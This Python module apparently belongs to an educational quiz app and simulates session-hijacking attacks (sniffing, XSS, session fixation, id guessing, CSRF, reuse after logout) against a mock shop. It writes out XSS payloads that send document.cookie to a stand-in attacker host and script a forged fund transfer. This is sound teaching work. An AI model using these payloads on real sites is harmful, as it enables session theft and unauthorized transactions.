"""The attacks, one function each: what the attacker really does with what he can reach."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from dataclasses import replace

from quizapp.demos.browser.requests import Request, Via
from quizapp.demos.browser_jar import Sent
from quizapp.demos.session_hijacking import telling
from quizapp.demos.session_hijacking.asking import Barrier
from quizapp.demos.session_hijacking.attacker import ORDER, id_in, order, password_in
from quizapp.demos.session_hijacking.inputs import DAY, EARLY, EVIL, LATE, POLLING, SHOP, Attack
from quizapp.demos.session_hijacking.loot import Loot
from quizapp.demos.session_hijacking.play import Play
from quizapp.demos.session_hijacking.using import poll, try_neighbours, use
from quizapp.texts.saying import saying

MAIL = "https://mail.test/"
"""Where the victim reads the mail with the planted link."""


async def sniff(play: Play) -> None:
    """He looks through all that his proxy has recorded so far."""
    await _look_through(play, 0, Barrier.CIPHERTEXT)


async def follow_old_link(play: Play) -> None:
    """The victim opens an old http:// address of the shop, and he records that."""
    mark = play.wiretap.mark
    visit = await play.victim_asks(Request(f"http://{SHOP}/"))
    held = _held_back(visit.sent)
    if visit.exchange.status == 301:
        to = visit.exchange.answered("Location")[0]
        await play.victim_asks(Request(to, redirected_through=(f"http://{SHOP}/",)))
    await _look_through(play, mark, held)


async def _look_through(play: Play, mark: int, otherwise: str) -> None:
    ways = play.wiretap.since(mark)
    data = b"".join(ways)
    id = id_in(data)
    play.loot = Loot(
        id,
        password_in(data),
        len(data),
        is_id_heard=bool(id),
        barrier=Barrier.NOTHING if id else otherwise,
    )
    play.tell(telling.recorded(ways, id))
    if id:
        await use(play)


async def read_by_script(play: Play) -> None:
    """His script on the shop's page brings him what document.cookie says."""
    collect = play.url("/collect?c=", EVIL)
    play.shop.review = f'<script>new Image().src = "{collect}" + document.cookie</script>'
    await play.victim_opens("/reviews", Via.LINK_GET, play.url("/"))
    read = play.browser.script_read()
    play.tell(telling.script_read(read))
    await play.victim_asks(Request(collect + read.header, Via.IMG, play.url("/reviews")))
    brought = play.evil.brought.partition("=")[2]
    play.loot = Loot(brought, barrier=Barrier.NOTHING if brought else _held_back(read))
    if brought:
        await use(play)


async def ask_by_script(play: Play) -> None:
    """His script on the shop's page reads the account page and asks for the transfer."""
    play.shop.review = (
        '<script>page = await (await fetch("/account")).text()\n'
        f'fetch("/transfer", {{method: "POST", body: "{ORDER}&csrf=" + tokenIn(page)}})</script>'
    )
    await play.victim_opens("/reviews", Via.LINK_GET, play.url("/"))
    here = play.url("/reviews")
    page = await play.victim_asks(Request(play.url("/account"), Via.FETCH, here))
    play.loot = Loot().after_reading(page.exchange)
    if play.loot.read:
        await _order_in_browser(
            play, Request(play.url("/transfer"), Via.FETCH_POST, here), order(page.exchange)
        )


async def forge_form(play: Play) -> None:
    """The victim opens his page, whose form posts itself to the shop."""
    await play.victim_asks(Request(play.url("/win", EVIL)))
    play.loot = Loot()
    post = Request(play.url("/transfer"), Via.FORM_POST, play.url("/win", EVIL))
    await _order_in_browser(play, post, ORDER)


async def _order_in_browser(play: Play, request: Request, body: str) -> None:
    before = play.lost
    visit = await play.victim_asks(request, body)
    loot = play.loot.after_ordering(visit.exchange, transferred=play.lost > before)
    held = loot.barrier if visit.sent.header else _held_back(visit.sent)
    play.loot = replace(loot, cookie_sent=bool(visit.sent.header), barrier=held)


async def fix_id(play: Play) -> None:
    """He gets an id for himself, and the victim logs in under it."""
    own = await play.client.get("/")
    id = id_in(own.response_head.encode())
    play.loot = Loot(id)
    play.tell(*telling.client_asked(own, saying("hijacking.step.gets_id")))
    link = play.url(f"/?sid={id}")
    play.tell(telling.did(saying("hijacking.step.plants", url=link), link, fix_id))
    await play.victim_asks(Request(link, Via.LINK_GET, MAIL))
    await play.victim_logs_in()
    await use(play)


async def guess_id(play: Play) -> None:
    """He gets an id for himself and tries those around it."""
    own = await play.client.get("/")
    id = id_in(own.response_head.encode())
    play.loot = Loot()
    play.tell(*telling.client_asked(own, saying("hijacking.step.gets_id")))
    await try_neighbours(play, id)
    if play.loot.id:
        await use(play)


async def use_after_logout(play: Play) -> None:
    """He copies the id from the open laptop, and uses it when the victim has logged out."""
    if copy_id(play):
        await play.victim_logs_out()
        await use(play)


async def use_next_day(play: Play) -> None:
    """He copies the id, and uses it a day later."""
    if copy_id(play):
        play.passes(DAY)
        await use(play)


async def keep_alive(play: Play) -> None:
    """He copies the id, and asks for a page every 25 minutes until he uses it a day later."""
    if copy_id(play):
        await poll(play, DAY, POLLING)
        await use(play)


def copy_id(play: Play) -> bool:
    """Whether there is a cookie in the developer tools of the laptop, which show HttpOnly too."""
    id = play.browser.session_id
    play.loot = Loot(id, barrier=Barrier.NOTHING if id else Barrier.EMPTY_JAR)
    play.tell(telling.did(saying("hijacking.step.copies"), f"sid={id}" if id else "", copy_id))
    return bool(id)


def _held_back(sent: Sent) -> str:
    """The rule that held the cookie back; without a cookie, that there is none."""
    reasons = [reason for one in sent.decisions for reason in one.reasons]
    if not sent.decisions:
        return Barrier.EMPTY_JAR
    return reasons[0] if reasons else Barrier.NOTHING


BY_KEY: dict[str, Callable[[Play], Awaitable[None]]] = {
    Attack.SNIFFING: sniff,
    Attack.OLD_LINK: follow_old_link,
    Attack.XSS_READ: read_by_script,
    Attack.XSS_REQUEST: ask_by_script,
    Attack.FIXATION: fix_id,
    Attack.GUESSING: guess_id,
    Attack.CSRF_EARLY: forge_form,
    Attack.CSRF_LATE: forge_form,
    Attack.AFTER_LOGOUT: use_after_logout,
    Attack.NEXT_DAY: use_next_day,
    Attack.POLLING: keep_alive,
}
"""What each attack does once everybody is in place."""
WAITS = {Attack.CSRF_EARLY: EARLY, Attack.CSRF_LATE: LATE}
"""Seconds between the login and an attack, where they matter."""


async def attack(play: Play, which: Attack) -> None:
    """Does it; afterwards ``play.loot`` tells what it has brought."""
    await BY_KEY[which](play)
    play.tried = True
    play.tell(telling.ended(play.loot, BY_KEY[which]))
